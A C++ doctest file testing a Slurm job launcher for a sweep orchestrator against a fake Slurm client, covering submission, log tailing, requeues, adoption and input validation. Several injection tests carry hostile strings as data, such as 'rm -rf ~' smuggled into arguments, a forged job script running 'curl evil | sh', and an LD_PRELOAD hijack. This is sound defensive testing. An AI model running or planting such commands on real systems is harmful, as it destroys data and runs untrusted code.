// SlurmLauncher against a scripted Slurm (FakeSlurmClient) on a FakeClock:
// how it submits, tails the work dir, reads job states, requeues, stops and
// adopts, without a cluster. The same launcher meets the real Slurm in
// slurm_cluster_test.cc.
#include <doctest/doctest.h>

#include <sys/stat.h>
#include <unistd.h>

#include <cstdio>
#include <fstream>
#include <functional>

#include "common/exit_codes.h"
#include "common/files.h"
#include "orchestrator/session.h"
#include "orchestrator/slurm_energy.h"
#include "orchestrator/slurm_launcher.h"
#include "tests/slurm/fake_slurm_client.h"
#include "tests/testing/temp_dir.h"

namespace cs {

namespace {

using testing::FakeSlurmClient;

// A launcher on a fake Slurm and a fake clock, with the trial's work dir.
struct Fixture {
  testing::TempDir dir;
  FakeClock clock;
  FakeSlurmClient::Shared slurm;
  std::unique_ptr<SlurmLauncher> launcher;

  std::vector<std::string> warnings;  // what the launchers warned about.

  explicit Fixture(SlurmLauncherOptions options = {}) { launcher = NewLauncher(options); }

  // A launcher on this fixture's Slurm and clock: the first, or the one a
  // restarted orchestrator makes.
  std::unique_ptr<SlurmLauncher> NewLauncher(SlurmLauncherOptions options = {}) {
    options.binary = "/opt/carbonsweep/bin/carbonsweep";
    options.clock = &clock;
    options.poll_interval_seconds = 2;
    options.stop_grace_seconds = 30;
    options.warn = [this](const std::string& message) { warnings.push_back(message); };
    return std::make_unique<SlurmLauncher>(options, std::make_unique<FakeSlurmClient>(&slurm));
  }

  std::string WorkDir(int64_t trial_id) const { return dir.File("trial-" + std::to_string(trial_id)); }

  LaunchRequest Request(int64_t trial_id) const {
    LaunchRequest request;
    request.trial_id = trial_id;
    request.args = {"--params", R"({"learning_rate":0.001})", "--work-dir", WorkDir(trial_id)};
    request.work_dir = WorkDir(trial_id);
    request.threads = 2;
    return request;
  }

  // Appends raw text to a file of the trial's work dir, as the worker does.
  void Append(int64_t trial_id, const std::string& file, const std::string& text) const {
    std::ofstream out(WorkDir(trial_id) + "/" + file, std::ios::app);
    out << text;
  }

  void SetJob(const std::string& job_id, const std::string& state, int exit_code = 0, int exit_signal = 0,
              const std::string& reason = "None") {
    FakeSlurmClient::FakeJob& job = slurm.jobs.at(job_id);
    job.state = state;
    job.exit_code = exit_code;
    job.exit_signal = exit_signal;
    job.reason = reason;
  }

  // Exactly one poll of Slurm: the poll interval passes, then a Wait() that does not block.
  std::vector<LauncherEvent> WaitPoll() {
    clock.Advance(2);
    std::vector<LauncherEvent> events;
    launcher->Wait(/*timeout_seconds=*/0, &events);
    return events;
  }
};

std::string EventLine(const std::string& json) { return "@cs " + json + "\n"; }

}  // namespace

TEST_CASE("Start writes a script that execs the trial and submits it with the sbatch flags of the options") {
  SlurmLauncherOptions options;
  options.partition = "gpu";
  options.gres = "gpu:1";
  options.time_limit = "02:00:00";
  options.extra = "--qos=high --constraint=\"a100&ib\"";
  Fixture fixture(options);
  auto started = fixture.launcher->Start(fixture.Request(7));
  REQUIRE(started.ok());
  CHECK(started->pid == 0);
  CHECK(started->job_id == "1");
  CHECK(fixture.launcher->Running() == 1);

  auto sbatch = FakeSlurmClient::CommandsOf(fixture.slurm, "sbatch");
  REQUIRE(sbatch.size() == 1);
  const std::vector<std::string>& argv = sbatch[0];
  auto has = [&](const std::string& arg) { return std::find(argv.begin(), argv.end(), arg) != argv.end(); };
  CHECK(has("--parsable"));
  CHECK(has("--partition=gpu"));
  CHECK(has("--gres=gpu:1"));
  CHECK(has("--time=02:00:00"));
  CHECK(has("--qos=high"));
  CHECK(has("--constraint=a100&ib"));
  CHECK(has("--cpus-per-task=2"));
  CHECK(has("--job-name=cs-trial-7"));
  CHECK(argv.back() == fixture.WorkDir(7) + "/slurm-job.sh");

  auto script = ReadFile(fixture.WorkDir(7) + "/slurm-job.sh");
  REQUIRE(script.ok());
  CHECK(script->find("exec '/opt/carbonsweep/bin/carbonsweep' 'trial' '--params' '{\"learning_rate\":0.001}' "
                     "'--work-dir' '" + fixture.WorkDir(7) + "' '--meter-self'\n") != std::string::npos);
}

TEST_CASE("a user's command runs under `carbonsweep job`, its variables exported and params.json in its work dir") {
  SlurmLauncherOptions options;
  options.meter_args = {"--sample-interval", "0.5"};
  Fixture fixture(options);
  LaunchRequest request = fixture.Request(8);
  request.args.clear();
  request.command = {"/usr/bin/python3", "train.py", "--lr", "0.001"};
  request.environment = {"CARBONSWEEP_PARAMS={\"learning_rate\":0.001,\"name\":\"it's\"}",
                         "CARBONSWEEP_WORK_DIR=" + fixture.WorkDir(8)};
  request.params_json = R"({"learning_rate":0.001,"name":"it's"})";
  REQUIRE(fixture.launcher->Start(request).ok());

  auto script = ReadFile(fixture.WorkDir(8) + "/slurm-job.sh");
  REQUIRE(script.ok());
  CHECK(script->find("export CARBONSWEEP_PARAMS='{\"learning_rate\":0.001,\"name\":\"it'\\''s\"}'\n") !=
        std::string::npos);
  CHECK(script->find("export CARBONSWEEP_WORK_DIR='" + fixture.WorkDir(8) + "'\n") != std::string::npos);
  CHECK(script->find("exec '/opt/carbonsweep/bin/carbonsweep' 'job' '--work-dir' '" + fixture.WorkDir(8) +
                     "' '--sample-interval' '0.5' '--' '/usr/bin/python3' 'train.py' '--lr' '0.001'\n") !=
        std::string::npos);
  CHECK(ReadFile(fixture.WorkDir(8) + "/params.json").value() == request.params_json + "\n");

  // A variable name the script would run as code is refused before any job.
  LaunchRequest bad = request;
  bad.trial_id = 9;
  bad.work_dir = fixture.WorkDir(9);
  bad.environment = {"X;rm -rf ~=1"};
  Status refused = fixture.launcher->Start(bad).status();
  CHECK(refused.code() == Status::Code::kInvalidArgument);
  CHECK(FakeSlurmClient::CommandsOf(fixture.slurm, "sbatch").size() == 1);
}

TEST_CASE("an unterminated quote in --slurm-extra is refused before anything is submitted") {
  SlurmLauncherOptions options;
  options.extra = "--comment='half";
  Fixture fixture(options);
  auto started = fixture.launcher->Start(fixture.Request(1));
  REQUIRE_FALSE(started.ok());
  CHECK(started.status().code() == Status::Code::kInvalidArgument);
  CHECK(started.status().message().find("--slurm-extra") != std::string::npos);
  CHECK(fixture.slurm.commands.empty());
}

TEST_CASE("sbatch refusing the job is a Start error quoting its message") {
  Fixture fixture;
  fixture.slurm.sbatch_error = "invalid partition specified: gpu";
  auto started = fixture.launcher->Start(fixture.Request(1));
  REQUIRE_FALSE(started.ok());
  CHECK(started.status().message().find("invalid partition specified: gpu") != std::string::npos);
  CHECK(fixture.launcher->Running() == 0);
}

TEST_CASE("events.log lines come once each, a torn line waits for its newline, energy.log lines are energy events") {
  Fixture fixture;
  REQUIRE(fixture.launcher->Start(fixture.Request(3)).ok());
  fixture.SetJob("1", "RUNNING");
  fixture.Append(3, "events.log", EventLine(R"({"event":"start","resumed_from_epoch":0})") + "not an event\n" +
                                      R"(@cs {"event":"epoch","epo)");
  fixture.Append(3, "energy.log",
                 R"({"unix_seconds":1700000001.0,"interval_seconds":1.0,"component":"cpu","method":"cpu-time-model","joules":9.5,"watts":9.5})"
                 "\n");
  std::vector<LauncherEvent> events = fixture.WaitPoll();
  REQUIRE(events.size() == 2);
  CHECK(events[0].event["event"] == "start");
  CHECK(events[1].event["event"] == "energy");
  CHECK(events[1].event["joules"] == 9.5);
  CHECK(events[1].trial_id == 3);

  fixture.Append(3, "events.log", std::string(R"(ch":1,"val_accuracy":0.6})") + "\n");
  events = fixture.WaitPoll();
  REQUIRE(events.size() == 1);
  CHECK(events[0].event["epoch"] == 1);
  CHECK(events[0].event["val_accuracy"] == 0.6);

  events = fixture.WaitPoll();  // nothing new: nothing again.
  CHECK(events.empty());
  CHECK(fixture.launcher->Running() == 1);
}

TEST_CASE("a completed job reports its last lines, then its exit code") {
  Fixture fixture;
  REQUIRE(fixture.launcher->Start(fixture.Request(4)).ok());
  fixture.WaitPoll();
  fixture.Append(4, "events.log", EventLine(R"({"event":"end","state":"finished","val_accuracy":0.8})"));
  fixture.SetJob("1", "COMPLETED", 0, 0);
  std::vector<LauncherEvent> events = fixture.WaitPoll();
  REQUIRE(events.size() == 2);
  CHECK(events[0].event["event"] == "end");
  CHECK(events[1].kind == LauncherEvent::Kind::kExit);
  CHECK(events[1].exit.how == TrialExit::How::kExited);
  CHECK(events[1].exit.exit_code == 0);
  CHECK(fixture.launcher->Running() == 0);
}

TEST_CASE("where Slurm accounts energy, the job's ConsumedEnergyRaw comes before its exit; without accounting sacct is asked once") {
  Fixture fixture;
  REQUIRE(fixture.launcher->Start(fixture.Request(1)).ok());
  REQUIRE(fixture.launcher->Start(fixture.Request(2)).ok());
  fixture.slurm.consumed_energy_raw["1"] = "123456";
  fixture.SetJob("1", "COMPLETED");
  std::vector<LauncherEvent> events = fixture.WaitPoll();
  REQUIRE(events.size() == 2);
  CHECK(events[0].event["event"] == "slurm_energy");
  CHECK(events[0].event["joules"] == 123456.0);
  CHECK(events[0].event["job_id"] == "1");
  CHECK(events[1].kind == LauncherEvent::Kind::kExit);

  SlurmLauncherOptions options;
  Fixture without_accounting(options);
  for (int64_t id : {1, 2}) REQUIRE(without_accounting.launcher->Start(without_accounting.Request(id)).ok());
  without_accounting.SetJob("1", "COMPLETED");
  without_accounting.SetJob("2", "COMPLETED");
  events = without_accounting.WaitPoll();
  CHECK(events.size() == 2);
  CHECK(FakeSlurmClient::CommandsOf(without_accounting.slurm, "sacct").size() == 1);
}

TEST_CASE("a failed job reports its exit code with the end of stderr.log and the Slurm state") {
  Fixture fixture;
  REQUIRE(fixture.launcher->Start(fixture.Request(5)).ok());
  fixture.Append(5, "stderr.log", "error: CUDA out of memory\n");
  fixture.SetJob("1", "FAILED", 7, 0, "NonZeroExitCode");
  std::vector<LauncherEvent> events = fixture.WaitPoll();
  REQUIRE(events.size() == 1);
  const TrialExit& exit = events[0].exit;
  CHECK(exit.how == TrialExit::How::kExited);
  CHECK(exit.exit_code == 7);
  CHECK(exit.stderr_tail == "error: CUDA out of memory\nslurm: job 1 FAILED (NonZeroExitCode)");
}

TEST_CASE("a timed-out job is not resubmitted and names its time limit") {
  Fixture fixture;
  REQUIRE(fixture.launcher->Start(fixture.Request(6)).ok());
  fixture.SetJob("1", "TIMEOUT", 0, 0, "TimeLimit");
  fixture.slurm.jobs["1"].time_limit = "00:10:00";
  std::vector<LauncherEvent> events = fixture.WaitPoll();
  REQUIRE(events.size() == 1);
  CHECK(events[0].exit.how == TrialExit::How::kLost);
  CHECK(events[0].exit.stderr_tail == "slurm: job 1 TIMEOUT (TimeLimit), time limit 00:10:00");
  CHECK(FakeSlurmClient::CommandsOf(fixture.slurm, "sbatch").size() == 1);
}

TEST_CASE("a preempted or foreign-cancelled job is resubmitted from the same work dir, up to max_requeues") {
  SlurmLauncherOptions options;
  options.max_requeues = 2;
  Fixture fixture(options);
  REQUIRE(fixture.launcher->Start(fixture.Request(8)).ok());
  fixture.SetJob("1", "RUNNING");
  fixture.Append(8, "events.log", EventLine(R"({"event":"epoch","epoch":1,"val_accuracy":0.5})"));
  fixture.WaitPoll();

  fixture.SetJob("1", "PREEMPTED", 0, 15);
  std::vector<LauncherEvent> events = fixture.WaitPoll();
  REQUIRE(events.size() == 1);
  CHECK(events[0].kind == LauncherEvent::Kind::kEvent);
  CHECK(events[0].event["event"] == "requeue");
  CHECK(events[0].event["job_id"] == "2");
  CHECK(events[0].event["previous_job_id"] == "1");
  CHECK(events[0].event["state"] == "PREEMPTED");
  auto sbatch = FakeSlurmClient::CommandsOf(fixture.slurm, "sbatch");
  REQUIRE(sbatch.size() == 2);
  CHECK(sbatch[1] == sbatch[0]);  // same script, same flags: the trial resumes from its checkpoint.

  // The new attempt's lines come; the old ones are not repeated.
  fixture.Append(8, "events.log", EventLine(R"({"event":"start","resumed_from_epoch":1})"));
  events = fixture.WaitPoll();
  REQUIRE(events.size() == 1);
  CHECK(events[0].event["resumed_from_epoch"] == 1);

  fixture.SetJob("2", "CANCELLED", 0, 15);  // someone else's scancel.
  events = fixture.WaitPoll();
  REQUIRE(events.size() == 1);
  CHECK(events[0].event["job_id"] == "3");
  fixture.SetJob("3", "NODE_FAIL", 0, 0, "NodeDown");
  events = fixture.WaitPoll();
  REQUIRE(events.size() == 1);
  CHECK(events[0].kind == LauncherEvent::Kind::kExit);
  CHECK(events[0].exit.stderr_tail.find("slurm: job 3 NODE_FAIL (NodeDown); not resubmitted (2 resubmission(s) already)") !=
        std::string::npos);
  CHECK(fixture.launcher->Running() == 0);
}

TEST_CASE("a graceful stop signals the trial, cancels after the grace period, and never requeues") {
  Fixture fixture;
  REQUIRE(fixture.launcher->Start(fixture.Request(9)).ok());
  fixture.SetJob("1", "RUNNING");
  fixture.WaitPoll();
  fixture.launcher->Stop(9, StopMode::kGraceful);
  auto scancel = FakeSlurmClient::CommandsOf(fixture.slurm, "scancel");
  REQUIRE(scancel.size() == 1);
  CHECK(scancel[0] == std::vector<std::string>{"scancel", "--signal=TERM", "--full", "1"});

  std::vector<LauncherEvent> events;
  for (int i = 0; i < 12 && events.empty(); ++i) fixture.launcher->Wait(3, &events);
  scancel = FakeSlurmClient::CommandsOf(fixture.slurm, "scancel");
  REQUIRE(scancel.size() == 2);
  CHECK(scancel[1] == std::vector<std::string>{"scancel", "1"});
  REQUIRE(events.size() == 1);
  CHECK(events[0].kind == LauncherEvent::Kind::kExit);
  CHECK(events[0].exit.how == TrialExit::How::kSignaled);
  CHECK(events[0].exit.signal == 15);
  CHECK(FakeSlurmClient::CommandsOf(fixture.slurm, "sbatch").size() == 1);
}

TEST_CASE("stopping a pending job cancels it at once; a kill cancels at once") {
  Fixture fixture;
  REQUIRE(fixture.launcher->Start(fixture.Request(1)).ok());
  REQUIRE(fixture.launcher->Start(fixture.Request(2)).ok());
  fixture.SetJob("2", "RUNNING");
  fixture.WaitPoll();
  fixture.launcher->Stop(1, StopMode::kGraceful);
  fixture.launcher->Stop(2, StopMode::kKill);
  auto scancel = FakeSlurmClient::CommandsOf(fixture.slurm, "scancel");
  REQUIRE(scancel.size() == 2);
  CHECK(scancel[0] == std::vector<std::string>{"scancel", "1"});
  CHECK(scancel[1] == std::vector<std::string>{"scancel", "2"});
  std::vector<LauncherEvent> events = fixture.WaitPoll();
  CHECK(events.size() == 2);
  CHECK(fixture.launcher->Running() == 0);
}

TEST_CASE("Adopt follows a job a previous orchestrator submitted, without submitting again") {
  Fixture fixture;
  REQUIRE(fixture.launcher->Start(fixture.Request(11)).ok());
  fixture.SetJob("1", "RUNNING");
  fixture.Append(11, "events.log", EventLine(R"({"event":"epoch","epoch":1,"val_accuracy":0.5})"));
  fixture.Append(11, "energy.log",
                 R"({"unix_seconds":1700000001.0,"interval_seconds":1.0,"component":"cpu","method":"cpu-time-model","joules":3,"watts":3})"
                 "\n");
  fixture.WaitPoll();
  fixture.launcher.reset();  // the orchestrator dies; the job runs on.

  SlurmLauncherOptions options;
  options.clock = &fixture.clock;
  SlurmLauncher adopted(options, std::make_unique<FakeSlurmClient>(&fixture.slurm));
  auto launched = adopted.Adopt(11, "1", fixture.WorkDir(11));
  REQUIRE(launched.ok());
  CHECK(launched->pid == 0);
  CHECK(adopted.Running() == 1);
  std::vector<LauncherEvent> events;
  adopted.Wait(0, &events);
  // This attempt's events again (the store ignores epochs it has) and all energy (it skips samples it has).
  REQUIRE(events.size() == 2);
  CHECK(events[0].event["event"] == "epoch");
  CHECK(events[1].event["event"] == "energy");
  fixture.SetJob("1", "COMPLETED");
  events.clear();
  fixture.clock.Advance(2);
  adopted.Wait(0, &events);
  REQUIRE(events.size() == 1);
  CHECK(events[0].kind == LauncherEvent::Kind::kExit);
  CHECK(FakeSlurmClient::CommandsOf(fixture.slurm, "sbatch").size() == 1);
}

TEST_CASE("UnrecordedJob names the job slurm-job.json holds when the store has another or none") {
  Fixture fixture;
  REQUIRE(fixture.launcher->Start(fixture.Request(11)).ok());  // sbatch answered "1"; the store never heard.
  fixture.launcher.reset();                                      // the orchestrator dies there.

  SlurmLauncherOptions options;
  options.clock = &fixture.clock;
  SlurmLauncher restarted(options, std::make_unique<FakeSlurmClient>(&fixture.slurm));
  CHECK(restarted.UnrecordedJob(11, fixture.WorkDir(11), "") == std::optional<std::string>("1"));
  CHECK(restarted.UnrecordedJob(11, fixture.WorkDir(11), "0") == std::optional<std::string>("1"));  // an older attempt's.
  CHECK_FALSE(restarted.UnrecordedJob(11, fixture.WorkDir(11), "1"));  // recorded: nothing to add.
  CHECK_FALSE(restarted.UnrecordedJob(11, fixture.WorkDir(11), "2"));  // the file lags the store: never go back.
  CHECK_FALSE(restarted.UnrecordedJob(12, fixture.WorkDir(11), ""));   // another trial's file.
  CHECK_FALSE(restarted.UnrecordedJob(13, fixture.WorkDir(13), ""));   // never submitted.
  CHECK(FakeSlurmClient::CommandsOf(fixture.slurm, "sbatch").size() == 1);
}

TEST_CASE("UnrecordedJob asks squeue when the orchestrator died while sbatch ran") {
  Fixture fixture;
  REQUIRE(fixture.launcher->Start(fixture.Request(11)).ok());  // job "1"
  fixture.launcher.reset();
  // sbatch queued the job, but its answer never reached slurm-job.json.
  REQUIRE(std::remove((fixture.WorkDir(11) + "/slurm-job.json").c_str()) == 0);
  // Another store's trial 11: the same job name, another script.
  FakeSlurmClient::FakeJob other;
  other.name = "cs-trial-11";
  other.command = "/elsewhere/trial-11/slurm-job.sh";
  fixture.slurm.jobs["7"] = other;

  SlurmLauncherOptions options;
  options.clock = &fixture.clock;
  SlurmLauncher restarted(options, std::make_unique<FakeSlurmClient>(&fixture.slurm));
  CHECK(restarted.UnrecordedJob(11, fixture.WorkDir(11), "") == std::optional<std::string>("1"));
  CHECK(FakeSlurmClient::CommandsOf(fixture.slurm, "squeue").back() ==
        std::vector<std::string>{"squeue", "--me", "--noheader", "--states=all", "--name=cs-trial-11", "--format=%i|%o"});
  CHECK_FALSE(restarted.UnrecordedJob(11, fixture.WorkDir(11), "1"));  // the store has it already.
  CHECK(FakeSlurmClient::CommandsOf(fixture.slurm, "sbatch").size() == 1);
}

TEST_CASE("UnrecordedJob does not ask Slurm when slurm-job.json is newer than the job script") {
  Fixture fixture;
  REQUIRE(fixture.launcher->Start(fixture.Request(11)).ok());  // script, sbatch, then slurm-job.json.
  CHECK_FALSE(fixture.launcher->UnrecordedJob(11, fixture.WorkDir(11), "1"));
  CHECK_FALSE(fixture.launcher->UnrecordedJob(13, fixture.WorkDir(13), ""));  // never submitted: no script.
  CHECK(FakeSlurmClient::CommandsOf(fixture.slurm, "squeue").empty());
}

TEST_CASE("an adopted job Slurm no longer knows ends as lost after two polls") {
  Fixture fixture;
  REQUIRE(Status(MakeDirs(fixture.WorkDir(12))).ok());
  REQUIRE(fixture.launcher->Adopt(12, "77", fixture.WorkDir(12)).ok());
  CHECK_FALSE(fixture.launcher->Adopt(13, "not-a-job", fixture.WorkDir(12)).ok());
  std::vector<LauncherEvent> events = fixture.WaitPoll();
  CHECK(events.empty());
  events = fixture.WaitPoll();
  REQUIRE(events.size() == 1);
  CHECK(events[0].exit.how == TrialExit::How::kLost);
  CHECK(events[0].exit.stderr_tail == "slurm: job 77 UNKNOWN (Slurm no longer knows the job)");
}

TEST_CASE("a control character in any value that goes into a Slurm job is refused when the sweep is validated") {
  SweepConfig config;
  config.name = "s";
  config.budget_grams_co2e = 10;
  config.launcher = LauncherKind::kSlurm;
  config.work_root = "/shared/it's a dir/s";
  config.slurm.extra = "--qos=low --comment='a b'";
  REQUIRE(ValidateSweepConfig(config).ok());

  const std::vector<std::pair<std::string, std::function<void(SweepConfig&)>>> cases = {
      {"--slurm-partition", [](SweepConfig& c) { c.slurm.partition = "debug\ntouch /tmp/pwned"; }},
      {"--slurm-gres", [](SweepConfig& c) { c.slurm.gres = "gpu:1\r"; }},
      {"--slurm-time", [](SweepConfig& c) { c.slurm.time_limit = "1:00\x7f"; }},
      {"--slurm-extra", [](SweepConfig& c) { c.slurm.extra = "--qos=low\nrm -rf ~"; }},
      {"--slurm-extra", [](SweepConfig& c) { c.slurm.extra = "--comment='half"; }},
      {"--work-root", [](SweepConfig& c) { c.work_root = "/shared/a\nb"; }},
      {"--task", [](SweepConfig& c) { c.task.task = "sst2\tx"; }},
      {"--backbone", [](SweepConfig& c) { c.task.backbone = std::string("/m\0x", 4); }},
      {"--vocab", [](SweepConfig& c) { c.task.vocab = "/v\n"; }},
  };
  for (const auto& spoiled : cases) {  // not a structured binding: clang 14 cannot CAPTURE one.
    const auto& [flag, spoil] = spoiled;
    CAPTURE(spoiled.first);
    SweepConfig bad = config;
    spoil(bad);
    Status status = ValidateSweepConfig(bad);
    REQUIRE_FALSE(status.ok());
    CHECK(ExitCodeFor(status) == ExitCode::kBadInput);
    CHECK(status.message().rfind(flag + ":", 0) == 0);
    CHECK(status.message().find_first_of("\n\r") == std::string::npos);  // one line.
  }
  SweepConfig local = config;  // the local launcher writes no job script.
  local.launcher = LauncherKind::kLocal;
  local.slurm.partition = "a\nb";
  CHECK(ValidateSweepConfig(local).ok());
}

TEST_CASE("Start refuses a control character in the work dir or a trial argument; other odd paths are quoted") {
  Fixture fixture;
  LaunchRequest request = fixture.Request(1);
  request.args.insert(request.args.end(), {"--task", "sst2\nrm -rf ~"});
  auto started = fixture.launcher->Start(request);
  REQUIRE_FALSE(started.ok());
  CHECK(started.status().code() == Status::Code::kInvalidArgument);
  CHECK(started.status().message().find("trial 1: argument") == 0);
  CHECK(fixture.slurm.commands.empty());
  request = fixture.Request(2);
  request.work_dir = fixture.dir.File("a\nb");
  CHECK_FALSE(fixture.launcher->Start(request).ok());
  CHECK(fixture.slurm.commands.empty());

  // Spaces, quotes and '%' (a pattern in sbatch --output) are fine, quoted.
  request = fixture.Request(3);
  request.work_dir = fixture.dir.File("it's 100% \"odd\" $(x)");
  request.args = {"--work-dir", request.work_dir};
  REQUIRE(fixture.launcher->Start(request).ok());
  auto script = ReadFile(request.work_dir + "/slurm-job.sh");
  REQUIRE(script.ok());
  CHECK(script->find("\nexec '/opt/carbonsweep/bin/carbonsweep' 'trial' '--work-dir' " + ShellQuote(request.work_dir) +
                     " '--meter-self'\n") != std::string::npos);
  CHECK(std::count(script->begin(), script->end(), '\n') == 5);  // #!, three comment lines, exec.
  const std::string dir_pattern = fixture.dir.File("it's 100%% \"odd\" $(x)");
  auto argv = FakeSlurmClient::CommandsOf(fixture.slurm, "sbatch").at(0);
  CHECK(std::find(argv.begin(), argv.end(), "--error=" + dir_pattern + "/stderr.log") != argv.end());
  CHECK(std::find(argv.begin(), argv.end(), "--output=" + dir_pattern + "/slurm-%j.out") != argv.end());
}

TEST_CASE("UnrecordedJob takes only a job squeue --me lists: never another user's of the same name and script") {
  Fixture fixture;
  REQUIRE(fixture.launcher->Start(fixture.Request(11)).ok());  // job "1"
  fixture.launcher.reset();
  const std::string work_dir = fixture.WorkDir(11);
  FakeSlurmClient::FakeJob foreign;  // someone else's job, named and pointed like ours.
  foreign.name = "cs-trial-11";
  foreign.command = work_dir + "/slurm-job.sh";
  foreign.user_id = ::getuid() + 1;
  fixture.slurm.jobs["5"] = foreign;

  auto restarted = fixture.NewLauncher();
  // A forged slurm-job.json naming it.
  REQUIRE(WriteFileAtomic(work_dir + "/slurm-job.json",
                          R"({"job_id":"5","trial_id":11,"events_offset":0,"requeues":0})").ok());
  CHECK_FALSE(restarted->UnrecordedJob(11, work_dir, "1"));
  CHECK_FALSE(fixture.warnings.empty());
  // The orchestrator died while sbatch ran: the newest of *our* jobs.
  REQUIRE(std::remove((work_dir + "/slurm-job.json").c_str()) == 0);
  CHECK(restarted->UnrecordedJob(11, work_dir, "") == std::optional<std::string>("1"));
  for (const auto& argv : FakeSlurmClient::CommandsOf(fixture.slurm, "squeue")) {
    if (argv.at(3).rfind("--name=", 0) == 0 || argv.at(4).rfind("--name=", 0) == 0) {
      CHECK(std::find(argv.begin(), argv.end(), "--me") != argv.end());
    }
  }
}

TEST_CASE("Adopt refuses a job squeue lists under another user or another job name") {
  Fixture fixture;
  REQUIRE(MakeDirs(fixture.WorkDir(11)).ok());
  FakeSlurmClient::FakeJob other_name;
  other_name.name = "cs-trial-99";
  fixture.slurm.jobs["5"] = other_name;
  FakeSlurmClient::FakeJob other_user;
  other_user.name = "cs-trial-11";
  other_user.user_id = ::getuid() + 1;
  fixture.slurm.jobs["6"] = other_user;
  CHECK_FALSE(fixture.launcher->Adopt(11, "5", fixture.WorkDir(11)).ok());
  auto refused = fixture.launcher->Adopt(11, "6", fixture.WorkDir(11));
  REQUIRE_FALSE(refused.ok());
  CHECK(refused.status().message().find("not this trial's job") != std::string::npos);
  CHECK(fixture.launcher->Running() == 0);
  FakeSlurmClient::FakeJob ours;
  ours.name = "cs-trial-11";
  fixture.slurm.jobs["7"] = ours;
  CHECK(fixture.launcher->Adopt(11, "7", fixture.WorkDir(11)).ok());
}

TEST_CASE("a forged slurm-job.json or job script never reaches sbatch: a resubmission is rebuilt from the request") {
  SlurmLauncherOptions options;
  options.partition = "gpu";
  Fixture fixture(options);
  REQUIRE(fixture.launcher->Start(fixture.Request(11)).ok());  // job "1"
  fixture.launcher.reset();
  const std::string work_dir = fixture.WorkDir(11);
  auto first_script = ReadFile(work_dir + "/slurm-job.sh");
  REQUIRE(first_script.ok());
  const std::vector<std::string> first_sbatch = FakeSlurmClient::CommandsOf(fixture.slurm, "sbatch").at(0);
  // Someone who can write the shared work dir.
  auto forge = [&] {
    REQUIRE(WriteFileAtomic(work_dir + "/slurm-job.json",
                            R"({"job_id":"1","trial_id":11,"events_offset":0,"requeues":0,)"
                            R"("sbatch_args":["--export=ALL,LD_PRELOAD=/tmp/evil.so","--partition=theirs"]})").ok());
    REQUIRE(WriteFileAtomic(work_dir + "/slurm-job.sh", "#!/bin/sh\ncurl evil | sh\n").ok());
  };
  auto preempt = [&](SlurmLauncher& launcher, const std::string& job_id) {
    fixture.SetJob(job_id, "PREEMPTED", 0, 15);
    fixture.clock.Advance(2);
    std::vector<LauncherEvent> events;
    launcher.Wait(0, &events);
    return events;
  };

  SUBCASE("adopted with the request the store's config gives") {
    forge();
    auto restarted = fixture.NewLauncher(options);
    REQUIRE(restarted->AdoptLaunch(fixture.Request(11), "1").ok());
    auto events = preempt(*restarted, "1");
    REQUIRE(events.size() == 1);
    CHECK(events[0].event["event"] == "requeue");
    auto sbatch = FakeSlurmClient::CommandsOf(fixture.slurm, "sbatch");
    REQUIRE(sbatch.size() == 2);
    CHECK(sbatch[1] == first_sbatch);
    CHECK(*ReadFile(work_dir + "/slurm-job.sh") == *first_script);
  }
  SUBCASE("adopted without it: not resubmitted at all") {
    forge();
    auto restarted = fixture.NewLauncher(options);
    REQUIRE(restarted->Adopt(11, "1", work_dir).ok());
    auto events = preempt(*restarted, "1");
    REQUIRE(events.size() == 1);
    CHECK(events[0].kind == LauncherEvent::Kind::kExit);
    CHECK(FakeSlurmClient::CommandsOf(fixture.slurm, "sbatch").size() == 1);
  }
  SUBCASE("started by this launcher, forged while it ran") {
    auto launcher = fixture.NewLauncher(options);
    REQUIRE(launcher->Start(fixture.Request(11)).ok());  // job "2"
    forge();
    auto events = preempt(*launcher, "2");
    REQUIRE(events.size() == 1);
    CHECK(events[0].event["job_id"] == "3");
    CHECK(*ReadFile(work_dir + "/slurm-job.sh") == *first_script);
  }
  for (const auto& argv : FakeSlurmClient::CommandsOf(fixture.slurm, "sbatch")) {
    for (const std::string& arg : argv) {
      CHECK(arg.find("LD_PRELOAD") == std::string::npos);
      CHECK(arg != "--partition=theirs");
    }
  }
}

TEST_CASE("a slurm-job.json that is not what the launcher writes is ignored with a warning; resume goes on") {
  const std::vector<std::pair<std::string, std::string>> files = {
      {"an event line", R"({"event":5})"},
      {"not an object", "[1,2,3]"},
      {"a number for the job id", R"({"job_id":1,"trial_id":11,"events_offset":0})"},
      {"a text trial id", R"({"job_id":"1","trial_id":"11","events_offset":0})"},
      {"a negative offset", R"({"job_id":"1","trial_id":11,"events_offset":-5})"},
      {"a text offset", R"({"job_id":"1","trial_id":11,"events_offset":"0"})"},
      {"a huge requeue count", R"({"job_id":"1","trial_id":11,"events_offset":0,"requeues":1e300})"},
      {"a shell command for a job id", R"({"job_id":"2;rm -rf ~","trial_id":11,"events_offset":0,"requeues":0})"},
      {"10 MB", R"({"job_id":"1","trial_id":11,"events_offset":0})" + std::string(10 << 20, ' ')},
      {"not JSON", "{\"job_id\":"},
  };
  for (const auto& file : files) {  // not a structured binding: clang 14 cannot CAPTURE one.
    const auto& [what, text] = file;
    CAPTURE(file.first);
    Fixture fixture;
    const std::string work_dir = fixture.WorkDir(11);
    REQUIRE(MakeDirs(work_dir).ok());
    fixture.Append(11, "events.log", EventLine(R"({"event":"epoch","epoch":1,"val_accuracy":0.5})"));
    REQUIRE(WriteFileAtomic(work_dir + "/slurm-job.sh", "#!/bin/sh\n").ok());
    REQUIRE(WriteFileAtomic(work_dir + "/slurm-job.json", text).ok());
    FakeSlurmClient::FakeJob job;
    job.name = "cs-trial-11";
    job.command = work_dir + "/slurm-job.sh";
    job.state = "RUNNING";
    fixture.slurm.jobs["1"] = job;

    CHECK_FALSE(fixture.launcher->UnrecordedJob(11, work_dir, "1"));
    REQUIRE(fixture.launcher->Adopt(11, "1", work_dir).ok());
    CHECK_FALSE(fixture.warnings.empty());
    for (const std::string& warning : fixture.warnings) CHECK(warning.find('\n') == std::string::npos);
    std::vector<LauncherEvent> events = fixture.WaitPoll();
    REQUIRE(events.size() == 1);  // events.log replayed from its start.
    CHECK(events[0].event["epoch"] == 1);
  }
}

TEST_CASE("a FIFO planted as slurm-job.json or events.log does not block the launcher") {
  Fixture fixture;
  const std::string work_dir = fixture.WorkDir(11);
  REQUIRE(MakeDirs(work_dir).ok());
  REQUIRE(::mkfifo((work_dir + "/slurm-job.json").c_str(), 0644) == 0);
  REQUIRE(::mkfifo((work_dir + "/events.log").c_str(), 0644) == 0);
